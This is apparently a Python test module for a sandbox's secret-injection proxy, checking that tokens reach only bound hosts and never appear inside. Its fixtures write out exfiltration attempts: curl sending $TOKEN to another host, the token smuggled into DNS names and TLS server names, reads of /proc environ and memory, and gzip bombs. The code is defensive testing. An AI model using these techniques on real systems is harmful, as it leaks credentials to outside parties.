# SPDX-License-Identifier: Apache-2.0
"""Secrets at the boundary: rows.  The value is at the server and nowhere inside; the placeholder is nowhere else."""

import base64
import gzip
import html
import json
import os
import subprocess
import sys
from urllib.parse import quote

PY = sys.executable if sys.executable.startswith('/usr') else '/usr/bin/python3'
CURL = ['curl', '-sS', '-m', '20']
DIRECT = CURL + ['--noproxy', '*']
VALUE = 'Qz7&"vAlue+of/the=tok\\en-9931'
SECOND = 'second_value_for_two_8812'

POLICY = '''cordon: 1
sandbox:
  capabilities:
    network:
      mode: allowlist
      allowed_hosts: [web.example.org, api.example.org, other.example.org, "api.example.org:8080"]
      allow_private: [203.0.113.0/24]
      egress:
        - {host: other.example.org, methods: [GET, POST]}
        - {host: other.example.org, action: deny}
    secrets:
      injection: host-boundary
      grants:
        - {name: TOKEN, hosts: [api.example.org]}
        - {name: NARROW, hosts: [api.example.org]}
'''


def shell(command):
    return ['sh', '-c', command]


def arrives(r, name, some, command, where, value):
    """The server saw the value there; the output shows no value."""
    if not r.wanted(name):
        return
    r.server.seen.clear()
    try:
        text, report = r.run(some, command)
    except Exception as e:  # pylint: disable=broad-except
        r.result(name, repr(e))
        return
    places = [where(*seen) for seen in r.server.seen]
    problem = ''
    if value not in places:
        problem = 'the server saw %r; said %r' % (r.server.seen, text[:400])
    elif VALUE in text or SECOND in text:
        problem = 'the value is in the output: %r' % text[:400]
    elif any(f['rule'] == 'secret-misdirected' for f in report['verdict']['findings']):
        problem = 'judged %r' % report['verdict']
    r.result(name, problem)


def alarms(r, name, some, command, rule):
    """Nothing of the placeholder arrives anywhere; there is a finding, and the verdict is MALICIOUS."""
    if not r.wanted(name):
        return
    r.server.seen.clear()
    r.names.asked.clear()
    try:
        text, report = r.run(some, command)
    except Exception as e:  # pylint: disable=broad-except
        r.result(name, repr(e))
        return
    problem = ''
    arrived = [s for s in r.server.seen if 'cordon-secret' in repr(s) or VALUE in repr(s)]
    found = [f for f in report['verdict']['findings'] if f['rule'] == 'secret-misdirected' and rule in f['message']]
    if arrived or any('cordon-secret' in n for n in r.names.asked):
        problem = 'it arrived: %r %r' % (arrived, r.names.asked)
    elif not found:
        problem = 'no finding in %r; said %r' % (report['verdict']['findings'], text[:300])
    elif report['verdict']['verdict'] != 'MALICIOUS':
        problem = 'judged %r' % report['verdict']
    elif VALUE in text:
        problem = 'the value is in the output'
    r.result(name, problem)


def puts(r, some):
    field = lambda key: lambda method, path, fields, body: fields.get(key)
    body = lambda method, path, fields, data: data.decode('latin-1')
    url = 'https://api.example.org/v1/x'
    arrives(r, 'secret: a bearer token', some, shell('curl -sS -m 20 -H "Authorization: Bearer $TOKEN" ' + url), field('authorization'),
            'Bearer ' + VALUE)
    arrives(r, 'secret: a bearer token past the proxy', some, shell('curl -sS -m 20 --noproxy "*" -H "X-Api-Key: $TOKEN" ' + url), field('x-api-key'),
            VALUE)
    arrives(r, 'secret: credentials', some, shell('curl -sS -m 20 -u "user:$TOKEN" ' + url), field('authorization'),
            'Basic ' + base64.b64encode(('user:' + VALUE).encode()).decode())
    arrives(r, 'secret: the query', some, shell('curl -sS -m 20 "%s?key=$TOKEN&x=1"' % url), lambda method, path, fields, data: path,
            '/v1/x?key=%s&x=1' % quote(VALUE, safe=''))
    arrives(r, 'secret: a form', some, shell('curl -sS -m 20 -d "a=1&k=$TOKEN" ' + url), body, 'a=1&k=' + quote(VALUE, safe=''))
    arrives(r, 'secret: a body in JSON', some, shell('curl -sS -m 20 -H "Content-Type: application/json" -d "{\\"k\\": \\"$TOKEN\\"}" ' + url), body,
            '{"k": "%s"}' % VALUE.replace('\\', '\\\\').replace('"', '\\"'))
    arrives(r, 'secret: a body of text', some, shell('curl -sS -m 20 -H "Content-Type: text/plain" --data-binary "x${TOKEN}y" ' + url), body,
            'x%sy' % VALUE)
    arrives(r, 'secret: a body that waits to be asked for', some, shell('curl -sS -m 20 -H "Expect: 100-continue" -H "Content-Type: text/plain" '
            '--data-binary "$TOKEN" ' + url), body, VALUE)
    arrives(r, 'secret: two of them', some, shell('curl -sS -m 20 -X POST -H "X-One: $TOKEN" -H "X-Two: $NARROW" https://api.example.org/narrow/x'),
            lambda method, path, fields, data: (fields.get('x-one'), fields.get('x-two')), (VALUE, SECOND))
    arrives(r, 'secret: python', some, [PY, '-c', 'import os, urllib.request as u; u.urlopen(u.Request("%s", headers={"X-Api-Key": '
            'os.environ["TOKEN"]})).read()' % url], field('x-api-key'), VALUE)
    arrives(r, 'secret: an upgrade', some, [PY, 'attempt.py', 'upgrade', 'api.example.org', '443', 'TOKEN'], field('x-api-key'), VALUE)
    r.allowed('secret: bytes pass after an upgrade', some, [PY, 'attempt.py', 'upgrade', 'api.example.org', '443', 'TOKEN'], r'101 .*\n(.*\n)*up:ping')
    r.allowed('secret: a large body without one', some, DIRECT + ['--data-binary', '@/usr/bin/env', '-H', 'Expect:', url], r'body=\d{5}')
    r.allowed('secret: a body in chunks without one', some, shell('curl -sS -m 20 -H "Transfer-Encoding: chunked" -d abc ' + url), r'body=3')
    r.allowed('secret: a large answer', some, DIRECT + ['-o', '/dev/null', '-w', '%{size_download}', 'https://api.example.org/v1/big'], r'^3000000$')


def send(body, coding, url, more=''):
    """Sends what a line of Python makes, in a coding."""
    return [PY, '-c', 'import os, gzip, zlib, urllib.request as u; t = os.environ["TOKEN"].encode(); print(u.urlopen(u.Request("%s", data=%s, headers={'
            '"Content-Encoding": "%s", "Content-Type": "text/plain"%s})).read())' % (url, body, coding, more)]


def coded(r, some):
    """Bodies in a coding: opened, and passed on as they were unless there is something to put into them."""
    url = 'https://api.example.org/v1/x'
    seen = lambda method, path, fields, data: (fields.get('content-encoding'), data)
    arrives(r, 'secret: a body in gzip', some, send('gzip.compress(b"x" + t + b"y")', 'gzip', url), seen, (None, b'x%sy' % VALUE.encode()))
    arrives(r, 'secret: a body in two members of gzip', some, send('gzip.compress(b"x" + t[:9]) + gzip.compress(t[9:])', 'x-gzip', url), seen,
            (None, b'x%s' % VALUE.encode()))
    arrives(r, 'secret: a body in deflate', some, send('zlib.compress(b"x" + t + b"y")', 'deflate', url), seen, (None, b'x%sy' % VALUE.encode()))
    arrives(r, 'secret: a body in gzip without one', some, send('gzip.compress(b"abc" * 500, mtime=0)', 'gzip', url), seen,
            ('gzip', gzip.compress(b'abc' * 500, mtime=0)))
    r.allowed('secret: a large body in gzip without one', some, send('gzip.compress(os.urandom(300000))', 'gzip', url), r'body=300\d{3}')
    large = send('gzip.compress(os.urandom(100000) + t)', 'gzip', url)
    r.refused('secret: a large body in gzip with one', some, large, r'body=', 'api.example.org', 'more than 65536', control=False)
    alarms(r, 'secret: in gzip, to another host', some, send('gzip.compress(t)', 'gzip', 'https://other.example.org/v1'), 'not bound')
    alarms(r, 'secret: in gzip, to another host, in plain HTTP', some, send('gzip.compress(t)', 'gzip', 'http://web.example.org/v1'), 'not bound')
    post = lambda coding, data: CURL + ['-k', '-H', 'Content-Encoding: ' + coding, '--data-binary', data, url]
    for coding in ('br', 'zstd', 'gzip, gzip', 'unheard-of'):
        r.refused('secret: a body in ' + coding, some, post(coding, 'abc'), r'body=3', 'api.example.org', 'in a coding')
    for coding in ('gzip', 'deflate'):
        r.refused('secret: a body that is not in %s' % coding, some, post(coding, 'abcabcabc'), r'body=9', 'api.example.org', 'in a coding')
    for size in ('40000000', '200000000'):  # one that is gathered, one that is not
        r.refused('secret: a body that is all air, %s' % size, some, shell('head -c %s /dev/zero | gzip -9 | curl -sSk -m 20 -H "Content-Encoding: gzip" '
                  '-H "Expect:" --data-binary @- %s' % (size, url)), r'body=\d', 'api.example.org', 'far larger')
    r.allowed('secret: other codings to a host without a secret', some, CURL + ['-k', '-H', 'Content-Encoding: br', '-d', 'abc', 'https://other.example.org/v1'],
              r'body=3')


def answers(r, some):
    for kind in ('echo', 'echo64', 'echo-chunked', 'echo-url', 'echo-close', 'echo-hex', 'echo-html', 'echo64-64', 'echo-range'):
        name = 'secret: an answer that says it again (%s)' % kind
        if not r.wanted(name):
            continue
        r.server.seen.clear()
        part = '-r 3-11 ' if kind == 'echo-range' else ''
        text, _ = r.run(some, shell('curl -sS -i -m 20 %s-H "X-Api-Key: $TOKEN" https://api.example.org/%s' % (part, kind)))
        coded = base64.b64encode(VALUE.encode())
        shown = [form for form in (VALUE, quote(VALUE, safe=''), coded.decode()[:-4], VALUE.encode().hex(), html.escape(VALUE), VALUE[2:11],
                                   base64.b64encode(coded).decode()[:-8]) if form in text]
        arrived = any(fields.get('x-api-key') == VALUE for _, _, fields, _ in r.server.seen)
        r.result(name, '' if arrived and 'cordon-secret-TOKEN' in text and not shown else 'arrived %r, said %r' % (arrived, text))
    name = 'secret: what comes in one piece with the agreement to an upgrade'
    if r.wanted(name):
        text, _ = r.run(some, [PY, 'attempt.py', 'upgrade', 'api.example.org', '443', 'TOKEN', '/v1/up-first'])
        r.result(name, '' if 'first:<cordon-secret-TOKEN' in text and 'up:ping' in text and VALUE not in text else 'said %r' % text)
    r.refused('secret: a part of an answer that nobody asked for', some, DIRECT + ['-k', '-H', 'X-Api-Key: 0123456789ab',
              'https://api.example.org/echo-part'], r'23456789a', 'api.example.org', 'in parts')
    r.refused('secret: an answer that cannot be searched', some, DIRECT + ['-k', 'https://api.example.org/echo-packed'], r'packed', 'api.example.org',
              'coding')


def elsewhere(r, some):
    alarms(r, 'secret: to another host', some, shell('curl -sS -m 20 -H "X-Api-Key: $TOKEN" https://other.example.org/v1'), 'not bound')
    alarms(r, 'secret: to another host, in a body', some, shell('curl -sS -m 20 -d "k=$TOKEN" https://other.example.org/v1'), 'not bound')
    alarms(r, 'secret: to another host, in credentials', some, shell('curl -sS -m 20 -u "x:$TOKEN" https://other.example.org/v1'), 'not bound')
    alarms(r, 'secret: to another host, in the query', some, shell('curl -sS -m 20 "https://other.example.org/v1?$TOKEN"'), 'not bound')
    alarms(r, 'secret: in plain HTTP', some, shell('curl -sS -m 20 -H "X-Api-Key: $TOKEN" http://api.example.org/v1'), 'plain HTTP')
    alarms(r, 'secret: in plain HTTP, credentials', some, shell('curl -sS -m 20 -u "x:$TOKEN" http://api.example.org/v1'), 'not bound')
    alarms(r, 'secret: in plain HTTP on a port of its own', some, shell('curl -sS -m 20 --noproxy "*" -H "X: $TOKEN" http://api.example.org:8080/v1'),
           'plain HTTP')
    chunked = 'Host: api.example.org\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n3\\r\\nabc\\r\\n0\\r\\n%s\\r\\n'
    speak = lambda text: [PY, 'attempt.py', 'speak', 'api.example.org', '443', text]
    r.refused('secret: in a trailer', some, speak('POST /v1 HTTP/1.1\\r\\n' + chunked % 'X-Api-Key: $TOKEN\\r\\n'), r'body=3', 'api.example.org', 'trailer')
    r.allowed('secret: a body in chunks without a trailer', some, speak('POST /v1 HTTP/1.1\\r\\n' + chunked % ''), r'body=3')
    r.refused('secret: with a method that it is not bound to, by a field', some, CURL + ['-k', '-X', 'POST', '-H', 'X-HTTP-Method-Override: DELETE',
              'https://api.example.org/narrow/x'], r'^POST /narrow/x', 'api.example.org', 'than the one that was judged')
    alarms(r, 'secret: in the path', some, shell('curl -sS -m 20 "https://api.example.org/v1/$TOKEN"'), 'path')
    alarms(r, 'secret: to a path that it is not bound to', some, shell('curl -sS -m 20 -X POST -H "X: $NARROW" https://api.example.org/wide'), 'not bound')
    alarms(r, 'secret: with a method that it is not bound to', some, shell('curl -sS -m 20 -H "X: $NARROW" https://api.example.org/narrow/x'), 'not bound')
    alarms(r, 'secret: in a name to be looked up', some, shell('getent hosts "$(printf %s "$TOKEN" | tail -c 32).example.org"'), 'looked up')
    alarms(r, 'secret: in the name of a host', some, shell('curl -sS -m 20 "http://$(printf %s "$TOKEN" | tail -c 32).example.org/"'), 'name of a host')
    alarms(r, 'secret: in CONNECT', some, shell('curl -sS -m 20 "https://$(printf %s "$TOKEN" | tail -c 32).example.org/"'), 'name of a host')
    alarms(r, 'secret: in the server name of TLS', some, shell('n="$(printf %s "$TOKEN" | tail -c 32).example.org"; curl -sS -m 20 --noproxy "*" '
           '--connect-to "$n:443:web.example.org:443" "https://$n/"'), 'server name')


def hidden(r, some):
    """Everything inside is searched: memory of all processes, files, environment."""
    words = [PY, 'attempt.py', 'search', bytes(c ^ 0x5a for c in VALUE.encode()).hex()]
    name = 'secret: a search inside finds it where it was given by hand'
    if r.wanted(name):
        text, _ = r.run(['--env', 'TOKEN=' + VALUE, *some[:0], '--allow-host', 'api.example.org', '--allow-private', '203.0.113.0/24'], words)
        r.result(name, '' if 'found in memory' in text else 'said %r' % text)
    name = 'secret: a search inside does not find it'
    if r.wanted(name):
        r.server.seen.clear()
        text, _ = r.run(some, words)
        arrived = any(fields.get('x-api-key') == VALUE for _, _, fields, _ in r.server.seen)
        r.result(name, '' if arrived and 'found' not in text and 'searched' in text else 'arrived %r, said %r' % (arrived, text))


def stays(r, some):
    """In a sandbox that stays: its proxy has the values, every call the same placeholders, and each call hears of its own."""
    name = 'secret: in a sandbox that stays'
    if r.backend or not r.wanted(name):
        return
    sandbox = [*r.prefix, r.cordon, 'sandbox']
    made = subprocess.run([*sandbox, 'create', '--cwd', r.workspace, *some], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, check=False)
    box = made.stdout.decode().strip()
    r.result(name + ': made', '' if made.returncode == 0 else box)
    if made.returncode != 0:
        return
    run_once = r.run

    def enter(_, command, timeout=60):
        report = r.scratch + '/kept.json'
        done = subprocess.run([*sandbox, 'exec', '-q', '--report', report, box, '--', *command], stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                              timeout=timeout, stdin=subprocess.DEVNULL, check=False)
        with open(report) as file:
            value = json.load(file)
        os.unlink(report)
        return done.stdout.decode('latin-1'), value

    r.run = enter
    try:
        url = 'https://api.example.org/v1/x'
        for i in range(2):
            arrives(r, '%s: it arrives, call %d' % (name, i + 1), some, shell('curl -sS -m 20 -H "X-Api-Key: $TOKEN" ' + url),
                    lambda method, path, fields, body: fields.get('x-api-key'), VALUE)
        alarms(r, name + ': not to another host', some, shell('curl -sS -m 20 -H "X-Api-Key: $TOKEN" https://other.example.org/v1'), 'not bound')
        # What another call did is no finding of this one.
        arrives(r, name + ': and the next call is clean', some, shell('curl -sS -m 20 -H "X-Api-Key: $TOKEN" ' + url),
                lambda method, path, fields, body: fields.get('x-api-key'), VALUE)
        text, _ = enter(some, shell('env; cat /proc/[0-9]*/environ /proc/[0-9]*/mem 2>/dev/null; true'))
        r.result(name + ': the value is nowhere inside', text if VALUE in text or 'TOKEN=cordon-secret-' not in text else '')
    finally:
        r.run = run_once
        subprocess.run([*sandbox, 'rm', '--force', box], stdout=subprocess.DEVNULL, check=False)


def store(r, name, value, *words):
    subprocess.run([*r.prefix, r.cordon, 'secret', 'set', name, '--host', 'api.example.org', *words], input=value.encode(), check=True,
                   stdout=subprocess.DEVNULL)


def run(r):
    if not r.wanted('secret: ') and not any('secret' in w for w in r.words):
        return
    with open(r.scratch + '/secrets.yaml', 'w') as file:
        file.write(POLICY)
    store(r, 'TOKEN', VALUE)
    store(r, 'NARROW', SECOND, '--method', 'POST', '--path', '/narrow/**')
    some = ['-p', r.scratch + '/secrets.yaml']
    puts(r, some)
    coded(r, some)
    answers(r, some)
    elsewhere(r, some)
    hidden(r, some)
    stays(r, some)
    leaks = subprocess.run(['grep', '-rlF', VALUE, r.scratch], stdout=subprocess.PIPE, check=False).stdout.decode()
    r.result('secret: in no file of ours', leaks)
